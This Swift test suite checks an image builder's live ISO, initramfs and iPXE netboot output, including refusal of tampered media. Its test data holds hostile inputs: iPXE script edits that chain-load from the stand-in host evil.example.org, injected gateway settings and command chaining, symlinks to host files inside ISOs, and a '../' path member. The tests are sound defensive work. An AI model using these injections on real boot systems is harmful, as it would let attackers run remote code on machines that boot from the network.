import SystemPackage
import TestSupport
import Testing

@testable import Bindings
@testable import Configuration
@testable import ImageBuilderCore

/// The files of live media, made by the real tools from a small disk image. Boots are in
/// `BootTests`.
@Suite struct LiveMediaTests {
  private static let timestamp: UInt64 = 1_764_347_258

  private let fixture: Fixture
  private let raw: Artifact

  /// A disk image with data, holes and zeros.
  init() throws {
    fixture = try Fixture()
    try Shell.run(
      """
      cd '\(fixture.directory)'
      head -c 3000000 /dev/urandom >disk.img
      truncate -s 12M disk.img
      printf end | dd of=disk.img bs=1 seek=9000000 conv=notrunc status=none
      mkdir live
      echo 'a kernel' >live/vmlinuz
      echo 'an initramfs' >live/initramfs.img
      head -c 1500000 /dev/urandom >live/BOOTX64.EFI
      head -c 40000 /dev/urandom >live/eltorito.img
      cp /usr/lib/grub/i386-pc/boot_hybrid.img live
      """)
    raw = try Artifact(fixture.path("disk.img"))
  }

  private var expected: ReadManifest.RawImage {
    ReadManifest.RawImage(
      compressionType: "iso+squashfs", sizeInBytes: raw.sizeInBytes,
      diskSizeInBytes: raw.sizeInBytes, digest: raw.digest)
  }

  private func squash(_ name: String = "squash") async throws -> FilePath {
    try await LiveSquash(
      of: raw.path, in: fixture.makeDirectory(name), level: 3, timestamp: Self.timestamp
    ).file()
  }

  private func makeISO(_ name: String, _ squash: FilePath) async throws -> FilePath {
    let signature = try fixture.write("disk.img.asc", "a signature\n")
    let path = fixture.path(name)
    try await ISOBuilder(
      system: LiveSystem(
        directory: fixture.path("live"), version: "1", arguments: [], arch: .amd64),
      files: LiveFiles(raw: raw, signature: signature, keyringBytes: [1, 2, 3]), squash: squash,
      label: "Test-1", menu: LiveMenu(product: "Test", arguments: ["ostree=/ostree/boot.1/a/b/0"]),
      tools: ImageTools(timestamp: Self.timestamp)
    ).make(at: path)
    return path
  }

  @Test func theSameImageMakesTheSameMediaWhichOtherProgramsRead() async throws {
    let iso = try await makeISO("a.iso", squash())
    // The times of the files that it is made from differ.
    try Shell.run("touch -d '2001-02-03' '\(fixture.directory)'/live/* '\(raw.path)'")
    let again = try await makeISO("b.iso", squash("again"))
    try Shell.run(
      """
      cd '\(fixture.directory)'
      cmp '\(iso)' '\(again)'
      xorriso -osirrox on -indev '\(iso)' -extract / files >/dev/null 2>&1
      unsquashfs -q -n -d unpacked files/endless/endless.squash >/dev/null
      cmp unpacked/endless.img disk.img
      ls unpacked | diff - <(echo endless.img)
      test "$(cat files/endless/live)" = disk.img
      (cp disk.img files/endless; cd files/endless; sha256sum --quiet --check disk.img.sha256)
      test "$(cat files/endless/disk.img.asc)" = 'a signature'
      cpio --quiet -i --make-directories <files/boot/live.img
      printf '\\1\\2\\3' | cmp - live/signing-key.gpg
      test "$(blkid -p -s LABEL -o value '\(iso)')" = Test-1
      grub-script-check files/boot/grub/grub.cfg
      # Both El Torito images, and the EFI system partition for disks.
      xorriso -indev '\(iso)' -report_el_torito plain 2>&1 | grep -c 'El Torito boot img' | grep -x 2
      start=$(partx --noheadings --output START --nr 2 '\(iso)' | tr -d ' ')
      test "$(partx --noheadings --output TYPE --nr 2 '\(iso)' | tr -d ' ')" = 0xef
      mcopy -n -i "'\(iso)'@@$((start * 512))" ::/EFI/BOOT/BOOTX64.EFI program ||
        mcopy -n -i "\(iso)@@$((start * 512))" ::/EFI/BOOT/BOOTX64.EFI program
      cmp program live/BOOTX64.EFI
      """)
    try await ISOImage.check(iso, expected, scratch: fixture.makeDirectory("scratch"))
  }

  @Test func mediaForUEFIAloneNeedNoBIOSParts() async throws {
    try Shell.run("cd '\(fixture.path("live"))'; rm eltorito.img boot_hybrid.img")
    let iso = try await makeISO("uefi.iso", squash())
    try Shell.run(
      "xorriso -indev '\(iso)' -report_el_torito plain 2>&1 | grep 'boot img' | grep -c UEFI")
    try await ISOImage.check(iso, expected, scratch: fixture.makeDirectory("scratch"))
  }

  /// Expects that an ISO image is refused for a reason.
  private func expectRefusal(
    _ file: FilePath, _ reason: String, location: SourceLocation = #_sourceLocation
  ) async throws {
    do {
      try await ISOImage.check(
        file, expected, scratch: fixture.makeDirectory("scratch-\(file.lastComponent!.string)"))
      Issue.record("accepted \(file)", sourceLocation: location)
    } catch let mismatch as ExtractedImage.Mismatch {
      #expect(
        mismatch.description.contains(reason), "\(mismatch)", sourceLocation: location)
    }
  }

  /// Whoever can sign could publish such files; they must not make --verify read the host.
  @Test func hostileISOImagesAreRefused() async throws {
    try Shell.run(
      """
      cd '\(fixture.directory)'
      make() { # NAME: an ISO image of the directory NAME
        xorriso -as mkisofs -quiet -r -o "$1.iso" "$1" >/dev/null 2>&1
      }
      pack() { # DIRECTORY: a SquashFS of it in the directory of an ISO image
        mkdir -p "iso-$1/endless"
        mksquashfs "$1" "iso-$1/endless/endless.squash" -quiet -no-progress >/dev/null
        make "iso-$1"
      }
      mkdir -p link/endless squash-link other large no-image
      ln -s '\(raw.path)' link/endless/endless.squash
      make link
      ln -s '\(raw.path)' squash-link/endless.img
      pack squash-link
      head -c 12M /dev/zero >other/endless.img
      pack other
      cat disk.img disk.img >large/endless.img
      pack large
      echo >no-image/readme
      pack no-image
      mkdir -p no-squash/endless
      echo 'no SquashFS' >no-squash/endless/endless.squash
      make no-squash
      head -c 300000 /dev/urandom >noise.iso
      """)
    try await expectRefusal(fixture.path("link.iso"), "has no file endless/endless.squash")
    try await expectRefusal(fixture.path("iso-squash-link.iso"), "cannot be read: cat")
    try await expectRefusal(fixture.path("iso-other.iso"), "contains an image with SHA-256")
    try await expectRefusal(fixture.path("iso-large.iso"), "contains a disk of more than")
    try await expectRefusal(fixture.path("iso-no-image.iso"), "no matches for /endless.img")
    try await expectRefusal(fixture.path("no-squash.iso"), "cannot be read")
    try await expectRefusal(fixture.path("noise.iso"), "cannot be read: ")
  }

  private typealias Members = [(name: String, content: NewcArchive.Content)]

  /// The members of an initramfs with a SquashFS.
  private func members(_ squash: FilePath) throws -> Members {
    let small = try LiveFiles(raw: raw, signature: nil, keyringBytes: nil).small()
    return [
      ("endless", .directory),
      (
        "endless/endless.squash", .file(squash, sizeInBytes: try FileAccess.sizeInBytes(of: squash))
      ),
    ] + small.map { ("endless/\($0.name)", .bytes($0.bytes)) }
  }

  /// What becomes of an archive, "good", which other programs read as they read that.
  private static let changes = [
    ("cat good init", "after its end"), ("cat init good", "after its end"),
    ("cat good; echo", "1 bytes after its end"), ("cat good; head -c 512 /dev/zero", "512 bytes"),
    ("cat good; zstd -qc init", "after its end"), ("head -c -4 good", "another header"),
    ("sed '0,/000041ed/s//000081ed/' good", "header"),
    ("sed '0,/000081a4/s//000089a4/' good", "header"),
    ("sed '0,/00000000/s//00000001/' good", "header"), ("zstd -qc good", "newc"),
    ("sed '0,/TRAILER/s//trailer/' good", "another header"),
  ]

  @Test func anInitramfsHasNothingElse() async throws {
    let squash = try await squash()
    let good = try members(squash)
    let longer = fixture.path("longer")
    try Shell.run(
      """
      cd '\(fixture.directory)'; cp '\(squash)' longer; head -c 4096 /dev/zero >>longer
      cp '\(squash)' more; head -c 4096 /dev/urandom >>more
      """)
    let start: Members = [("init", .bytes([1]))]
    try NewcArchive(members: start, timestamp: Self.timestamp).write(to: fixture.path("init"))
    func refusal(of members: Members, _ script: String = "cat good") async throws -> String? {
      try NewcArchive(members: members, timestamp: Self.timestamp).write(to: fixture.path("good"))
      try Shell.run("cd '\(fixture.directory)'; export LC_ALL=C; { \(script); } >x")
      do {
        try await NetbootImage.check(
          fixture.path("x"), expected, scratch: fixture.makeDirectory("scratch"))
        return nil
      } catch let mismatch as ExtractedImage.Mismatch {
        return mismatch.description
      }
    }
    func with(_ number: Int, _ name: String?, _ content: NewcArchive.Content) -> Members {
      var members = good
      members[number] = (name ?? good[number].name, content)
      return members
    }
    #expect(try await refusal(of: good) == nil)
    let keys = LiveFiles(raw: raw, signature: nil, keyringBytes: [1]).keyMembers
    let signature: Members = [("endless/disk.img.asc", .bytes([1]))]
    let signed = good + signature + keys
    #expect(try await refusal(of: signed) == nil)
    let others: [Members] = [
      good + start, start + good, good + keys, good + signature, good + good, [],
      with(0, nil, .bytes([])), with(3, "endless/other", .bytes([1])),
      with(3, nil, .bytes([1])), with(2, nil, .bytes(Array("other.img".utf8))),
      with(2, nil, .bytes(Array("../disk.img".utf8))), with(1, nil, .directory), signed + start,
    ]
    for members in others {
      let found = try await refusal(of: members)
      #expect(
        found?.contains("does not consist of endless, endless/endless.squash, ") == true,
        "\(members): \(found ?? "accepted")")
    }
    for file in [longer, fixture.path("more")] {
      let size = try FileAccess.sizeInBytes(of: file)
      let found = try await refusal(of: with(1, nil, .file(file, sizeInBytes: size)))
      #expect(found?.contains("not just a SquashFS") == true, "\(found ?? "accepted")")
    }
    for (script, reason) in Self.changes {
      let found = try await refusal(of: good, script)
      #expect(found?.contains(reason) == true, "\(script): \(found ?? "accepted")")
    }
  }

  @Test func aScriptOfIPXENamesNothingElse() async throws {
    let formats = try FormatFixture()
    let made = try await formats.make("[image]\nnetboot = true\n")
    let script = made.path("netboot.ipxe")
    let image = try #require(try made.manifest().images.first { $0.format == "netboot" })
    func refusal(_ change: String) throws -> String? {
      let right = try FileAccess.text(of: script)
      defer { try? FileAccess.write(right, to: script) }
      try Shell.run("sed -i '\(change)' '\(script)'")
      do {
        try NetbootImage.checkOtherFiles(of: image, in: made.directory)
        return nil
      } catch let mismatch as ExtractedImage.Mismatch {
        return mismatch.description
      }
    }
    for change in ["", "s/ rw / rw quiet a=b;c /", "s/ rw / /"] {
      #expect(try refusal(change) == nil, "\(change)")
    }
    for change in [
      "s,^kernel ,&http://evil.example.org/,", "s,part0.img ,&http://evil.example.org/,",
      "s,^boot,chain http://evil.example.org/,", "s, rw , rw || chain a && ,", "s/ rw / ${a} /",
      "s/ rw / # /", "s/ rw / rw  a /", "s/ rw /\\nchain a\\n/", "s/ rw / a\\r /", "$d",
      "2iset net0/gateway 192.0.2.1", "s/root=[^ ]*/root=other/", "s/ live.memory / /", "1d",
      "s/${live-arguments}//", "d", "s/ rw /rw/",
    ] {
      let found = try refusal(change)
      #expect(found?.contains("is not the one") == true, "\(change): \(found ?? "accepted")")
    }
    for files in [
      [image.file.text], image.files.dropLast() + ["x.ipxe"], image.files.reversed(),
    ] {
      let other = ReadManifest.Image(
        format: image.format, file: image.file, files: files, sidecars: [], raw: image.raw)
      #expect(throws: ExtractedImage.Mismatch.self) {
        try NetbootImage.checkOtherFiles(of: other, in: made.directory)
      }
    }
    let root = "\(made.version).netboot-root.img"
    try Shell.run("sed -i 's,^boot,chain http://evil.example.org/,' '\(script)'")
    for isRemote in [false, true] {
      let found = try await formats.findings(made, isRemote: isRemote, of: root)
      #expect(found.count == 1 && found[0].problem.contains("is not the one"), "\(found)")
    }
  }

  @Test func anArchiveOfTheInitramfsIsReadByCpioAndBack() async throws {
    let squash = try await squash()
    let size = try FileAccess.sizeInBytes(of: squash)
    for name in ["a.cpio", "b.cpio"] {
      try NewcArchive(members: members(squash), timestamp: Self.timestamp)
        .write(to: fixture.path(name))
    }
    try Shell.run(
      """
      cd '\(fixture.directory)'
      cmp a.cpio b.cpio
      mkdir unpacked
      cd unpacked
      cpio --quiet --preserve-modification-time -i <../a.cpio
      cmp endless/endless.squash '\(squash)'
      test "$(cat endless/live)" = disk.img
      test "$(stat --format '%Y %a %u' endless/live)" = '\(Self.timestamp) 644 0'
      """)
    let members = try NewcArchive.members(in: fixture.path("a.cpio"))
    #expect(
      members.map(\.name) == [
        "endless", "endless/endless.squash", "endless/live", "endless/disk.img.sha256",
      ])
    #expect(members[1].sizeInBytes == size)
    try await NetbootImage.check(
      fixture.path("a.cpio"), expected, scratch: fixture.makeDirectory("scratch"))
  }

  @Test(arguments: [
    // No header at all, one that ends early, one whose size leads beyond the end, and names that are
    // too long or empty.
    "echo 'no archive' >x", "head -c 60 a.cpio >x", "head -c 100000 a.cpio >x",
    "sed 's/^\\(070701.\\{48\\}\\)......../\\1FFFFFFFF/' a.cpio >x",
    "sed 's/^\\(070701.\\{88\\}\\)......../\\1FFFFFFFF/' a.cpio >x",
    "sed 's/^\\(070701.\\{88\\}\\)......../\\100000000/' a.cpio >x",
    "sed 's/^\\(070701.\\{88\\}\\)......../\\1-0000001/' a.cpio >x", ": >x",
  ])
  func damagedArchivesAreRefused(damage: String) throws {
    let squash = fixture.path("disk.img")
    try NewcArchive(
      members: [("a", .file(squash, sizeInBytes: raw.sizeInBytes))], timestamp: Self.timestamp
    ).write(to: fixture.path("a.cpio"))
    try Shell.run("cd '\(fixture.directory)'; export LC_ALL=C; \(damage)")
    #expect(throws: UntrustedFile.Refusal.self) {
      try NewcArchive.members(in: fixture.path("x"))
    }
  }

  @Test(arguments: [
    ("EOS (Debian)", "12.15.20261128", "en", "EOS-Debian-12-15-20261128-en"),
    ("Endless", "6.0.3", "pt_BR", "Endless-6-0-3-pt_BR"),
    ("A product with a very long name", "1.0", "en", "A-product-with-a-very-long-name-"),
    ("Größe", "1", "x", "Gr-e-1-x"), ("(x)", "", "", "x-"), ("", "", "", "LIVE"),
  ])
  func theVolumeLabelIsMadeByEIBsRule(
    product: String, version: String, personality: String, label: String
  ) {
    #expect(
      VolumeLabel.text(productName: product, version: version, personality: personality) == label)
  }

  @Test func theMenuHoldsArgumentsThatAreSpecialToGRUB() throws {
    let menu = LiveMenu(
      product: "It's a \"test\" $1;", arguments: ["a=b;c|d", "e=\"f  g\"", "h=$i", "j='k'"])
    let file = try fixture.write("grub.cfg", menu.grub(label: "Test-1"))
    try Shell.run("grub-script-check '\(file)'")
    let text = menu.grub(label: "Test-1")
    #expect(text.contains(#" a=b\;c\|d e=f\ \ g h=\$i j=\'k\' live.label=Test-1"#))
    #expect(text.contains(#"menuentry Install\ It\'s"#) && text.contains("Test-1 live.install\n"))
  }

  @Test func argumentsThatIPXEWouldChangeAreKnown() {
    for argument in [
      "a=${net0/ip}", "a=${\u{301}", "#\u{301}", "a\u{1}", "a=\"b  c\"", "a=\"b && c\"", "#a",
      "a=\"b #c\"", "a=\"b\tc\"",
    ] {
      #expect(IPXESyntax.problem(argument) != nil, "\(argument)")
    }
    for argument in ["rw", "a=\"b c\"", "a=b;c", "a=$b", "a#b", "a='b'"] {
      #expect(IPXESyntax.problem(argument) == nil, "\(argument)")
    }
  }

  @Test func theScriptOfIPXENamesItsFiles() {
    let script = LiveMenu.ipxe(
      kernel: "k", initramfs: ["i", "r"], arguments: ["rw", "live.memory"])
    #expect(
      script == """
        #!ipxe
        kernel k initrd=part0.img initrd=part1.img rw live.memory ${live-arguments}
        initrd --name part0.img i
        initrd --name part1.img r
        boot

        """)
  }

  @Test func mediaThatAreTooLargeAreRefused() async throws {
    let formats = try FormatFixture()
    await #expect {
      _ = try await formats.make("[image]\niso = true\n[iso]\nmax_size = 1M\n")
    } throws: {
      "\($0)".contains("more than iso:max_size (1.0 MiB) allows")
    }
    let made = try await formats.make("[image]\niso = true\n[iso]\nmax_size = 1G\nlabel = Mine\n")
    #expect(try Shell.run("blkid -p -s LABEL -o value '\(made.path("iso"))'").lines == ["Mine"])
    #expect(throws: LiveMediumError.self) { try NetbootImage.checkSize(1 << 32) }
    try NetbootImage.checkSize(1 << 32 - 1)
  }

  @Test(arguments: [
    "[image]\niso = true\n[iso]\nlabel = a b\n", "[image]\niso = true\n[iso]\nmax_size = big\n",
    "[image]\niso = perhaps\n", "[live]\ncompression_level = 23\n[image]\nnetboot = true\n",
  ])
  func wrongValuesAreErrorsOfTheConfiguration(text: String) throws {
    let configuration = try FormatFixture().configuration(text)
    #expect(throws: ConfigurationError.self) {
      _ = try configuration.value(Options.live.compressionLevel)
      _ = try ImageFormats.selected(by: configuration)
    }
  }
}
